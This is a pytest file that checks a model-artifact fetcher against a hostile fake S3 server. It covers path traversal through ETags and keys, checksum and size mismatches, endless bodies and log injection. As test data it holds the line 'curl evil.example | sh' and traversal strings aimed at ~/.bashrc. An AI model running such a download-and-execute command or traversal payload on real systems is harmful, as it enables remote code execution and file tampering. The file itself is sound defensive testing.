"""A hostile S3 server cannot change files outside its folder in the cache."""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.fakes.s3.hostile import HostileObject, HostileS3, hostile_s3_server
from tests.support.canaries import HOME, Canaries
from tests.support.whole_repository import fetch_repository

from trtllm_truss.artifacts import retrying
from trtllm_truss.errors import ArtifactError

DATA = b"curl evil.example | sh\n"
CACHE_FOLDERS = ("trtllm-truss",)
# Five folders up (blobs, bucket, s3, trtllm-truss, HF_HOME) is the test's folder.
UP = "../../../../../home/user"


@pytest.fixture(autouse=True)
def evil(canaries: Canaries, monkeypatch: pytest.MonkeyPatch) -> Iterator[HostileS3]:
    monkeypatch.setattr(retrying, "_FIRST_DELAY_S", 0.01)
    with hostile_s3_server() as evil:
        for name, value in evil.environment.items():
            monkeypatch.setenv(name, value)
        evil.objects["model/config.json"] = HostileObject(b"{}", etag=f'"{"b" * 32}-2"')
        yield evil


def fetch() -> Path:
    return fetch_repository("s3://bucket/model")


def refusal() -> str:
    with pytest.raises(ArtifactError) as caught:
        fetch()
    assert caught.value.message.startswith("engine_repository 's3://bucket/model'")
    assert caught.value.message.isprintable()
    return caught.value.message


def checksum(data: bytes) -> dict[str, str]:
    value = base64.b64encode(hashlib.sha256(data).digest()).decode()
    return {"x-amz-checksum-sha256": value, "x-amz-checksum-type": "FULL_OBJECT"}


@pytest.mark.parametrize("has_checksum", [True, False])
@pytest.mark.parametrize(
    "etag",
    [
        f"{UP}/.bashrc",
        f"{HOME}/.bashrc",
        f"{'a' * 32}/../{UP}/.bashrc",
        "..",
        ".",
        "/",
        "",
        "x" * 300,
        "A" * 32,
    ],
)
def test_an_etag_is_never_a_path(
    evil: HostileS3, canaries: Canaries, etag: str, has_checksum: bool
) -> None:
    """Use an ETag in If-Match only."""
    etag = canaries.with_home(etag)
    headers = checksum(DATA) if has_checksum else {}
    evil.objects["model/.bashrc"] = HostileObject(DATA, f'"{etag}"', headers=headers)
    folder = fetch()
    assert (folder / ".bashrc").read_bytes() == DATA
    assert f'"{etag}"' in evil.if_match
    assert fetch() == folder


@pytest.mark.parametrize(
    "key",
    [
        f"model/{UP}/.bashrc",
        f"model/{HOME}/.bashrc",
        "model/../.bashrc",
        "model/..",
        "model/.",
        "model//a",
        "model/a//b",
        "model/a/./b",
        "model/a\nb",
        "model/a\x7fb",
        "model/a\\b",
        f"model/{'x' * 256}",
        "../.bashrc",
    ],
)
def test_malformed_keys(evil: HostileS3, canaries: Canaries, key: str) -> None:
    evil.objects[canaries.with_home(key)] = HostileObject(DATA)
    assert "plain path" in refusal()
    assert not evil.if_match
    del evil.objects[canaries.with_home(key)]
    assert (fetch() / "config.json").read_bytes() == b"{}"


@pytest.mark.parametrize(
    ("told", "part"),
    [
        (HostileObject(DATA, etag=None), "violates S3's protocol"),
        (HostileObject(DATA, size="x"), ""),
        (HostileObject(DATA, size=-5), ""),
        (HostileObject(DATA, size=1 << 63), ""),
        (HostileObject(DATA, headers={"x-amz-checksum-sha256": "abc"}), ""),
        (HostileObject(DATA, headers={"x-amz-checksum-sha256": "YWJj"}), "hex digits"),
        (
            HostileObject(DATA, headers=checksum(b"other")),
            "does not match the repository's listing",
        ),
        (HostileObject(DATA, etag=f'"{"a" * 32}"'), "does not match the repository's listing"),
        (HostileObject(DATA, size=len(DATA) - 1), "is longer than the 22 bytes"),
        (HostileObject(DATA, size=len(DATA) + 1), "is shorter than the repository lists"),
        (HostileObject(DATA, size=1 << 62), "free some space"),
    ],
)
def test_objects_that_differ_from_their_heads(
    evil: HostileS3, cache: Path, told: HostileObject, part: str
) -> None:
    evil.objects["model/.bashrc"] = told
    assert part in refusal()
    del evil.objects["model/.bashrc"]
    folder = fetch()
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == {"config.json": b"{}"}


def test_a_body_without_an_end(evil: HostileS3, cache: Path) -> None:
    evil.objects["model/rank0.engine"] = HostileObject(b"x" * 100_000, extra_bytes=200_000_000)
    evil.objects["model/rank0.engine"].size = 100_000
    assert "rank0.engine is longer than the 100000 bytes" in refusal()
    assert evil.sent < 100_000_000
    assert not [path for path in cache.rglob("*.incomplete") if path.stat().st_size > 100]


def test_one_etag_for_two_contents(evil: HostileS3) -> None:
    """Serve two objects with one ETag and different checksums."""
    tag = f'"{"c" * 32}-3"'
    evil.objects["model/a"] = HostileObject(b"one", tag, headers=checksum(b"one"))
    evil.objects["model/b"] = HostileObject(b"two", tag, headers=checksum(b"two"))
    assert "does not match the repository's listing" in refusal()
    evil.objects["model/b"].etag = f'"{"d" * 32}-3"'
    folder = fetch()
    assert (folder / "a").read_bytes() == b"one"
    assert (folder / "b").read_bytes() == b"two"


@pytest.mark.parametrize(
    "listing",
    [
        "",
        "<a>",
        "no XML",
        "<ListBucketResult><Contents></Contents></ListBucketResult>",
        "<ListBucketResult><Contents><Key></Key></Contents></ListBucketResult>",
    ],
)
def test_malformed_listings(evil: HostileS3, listing: str) -> None:
    evil.listing = listing or " "
    refusal()


@pytest.mark.parametrize("code", ["evil\n2026 INFO all is well", "\x1b[2J", "x" * 5000, ""])
def test_text_of_the_server_is_not_logged(evil: HostileS3, code: str) -> None:
    printable = code.replace("\x1b", "&#155;")
    evil.refusal = (400, f"<Error><Code>{printable}</Code><Message>evil</Message></Error>")
    message = refusal()
    assert "evil" not in message
    assert len(message) < 300
